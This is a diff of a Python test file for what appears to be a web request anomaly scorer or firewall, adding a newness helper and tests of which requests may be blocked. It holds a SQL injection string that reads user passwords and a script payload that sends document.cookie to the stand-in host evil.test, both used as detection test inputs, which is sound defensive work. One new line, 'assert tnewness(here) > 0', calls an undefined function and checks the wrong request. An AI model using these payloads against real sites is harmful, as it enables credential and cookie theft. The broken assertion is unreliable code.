@@ -2,10 +2,13 @@
 
 from __future__ import annotations
 
+from urllib.parse import quote
+
 import numpy as np
 import pytest
 from cnaf.learner.fit import FitResult
 from cnaf.models.exchange import Request
+from cnaf.models.features import COLUMNS
 from cnaf.models.fields import Field, Location
 from cnaf.models.kernels import MEASURES
 from cnaf.models.parsing import RequestParser
@@ -17,6 +20,13 @@ from tests.support.shop import request, shop_fit, shop_traffic
 
 INJECTION = "1' UNION SELECT user, password FROM users-- -"
 SCRIPT = "<script>fetch('//evil.test/'+document.cookie)</script>"
+
+
+def newness(found: Score) -> float:
+    """What structure adds to a score: the first three of its dense features."""
+    n = len(found.indices)
+    at = n * len(MEASURES) + n + COLUMNS.index("unseen-endpoint")
+    return float(found.out[at : at + 3].sum())
 
 
 @pytest.fixture(scope="module")
@@ -118,25 +128,25 @@ class TestBenign:
         for made in (request(target="/never-seen"), request("DELETE", "/products/7")):
             found = score(scorer, made)
             assert found.endpoint is None
-            assert found.newness > 1
-            assert found.score >= found.newness
+            assert newness(found) > 1
+            assert found.score >= newness(found)
 
     def test_a_known_endpoint_has_no_newness(self, scorer: Scorer) -> None:
         found = score(scorer, request(target="/products/7"))
-        assert (found.endpoint is not None, found.newness) == (True, 0.0)
+        assert (found.endpoint is not None, newness(found)) == (True, 0.0)
         assert found.template == "/products/{int}"
 
     def test_an_unseen_field_is_named(self, scorer: Scorer) -> None:
         parsed = RequestParser().parse(request(target="/products?page=1&sort=price&debug=true"))
         found = scorer.score(parsed)
         assert [parsed.fields[i].label for i in found.unseen] == ["query:debug"]
-        assert found.newness > 0
+        assert newness(found) > 0
 
     def test_a_known_field_at_another_endpoint_is_new_there(self, scorer: Scorer) -> None:
         here = score(scorer, request(target="/search?q=hat"))
         there = score(scorer, request(target="/products/7?q=hat"))
-        assert (here.newness, there.unseen) == (0.0, [])
-        assert there.newness > 0
+        assert (newness(here), there.unseen) == (0.0, [])
+        assert tnewness(here) > 0
 
 
 class TestContract:
@@ -203,3 +213,26 @@ class TestContract:
             for field in parser.parse(exchange.request).fields[1:]:
                 if len(field.value) > 9:
                     assert field.value not in held
+
+
+class TestBlockable:
+    """What may block leaves out that an endpoint is new; what is in its values stays."""
+
+    def blockable(self, scorer: Scorer, made: Request) -> tuple[float, float]:
+        parsed = RequestParser().parse(made)
+        found = scorer.score(parsed)
+        return scorer.blockable(parsed, found), found.score
+
+    def test_a_known_endpoint_keeps_its_score(self, scorer: Scorer) -> None:
+        part, whole = self.blockable(scorer, request(target="/search?q=" + quote(INJECTION)))
+        assert part == whole
+
+    def test_a_forgotten_page_is_ordinary_and_an_attack_on_it_is_not(
+        self, fitted: FitResult, scorer: Scorer
+    ) -> None:
+        threshold = fitted.model.blocking.threshold(0.02)
+        page, whole = self.blockable(scorer, request(target="/about-us/our-story"))
+        assert page < threshold
+        assert page < whole
+        attacked = request(target="/about-us/our-story?q=" + quote(INJECTION))
+        assert self.blockable(scorer, attacked)[0] >= threshold
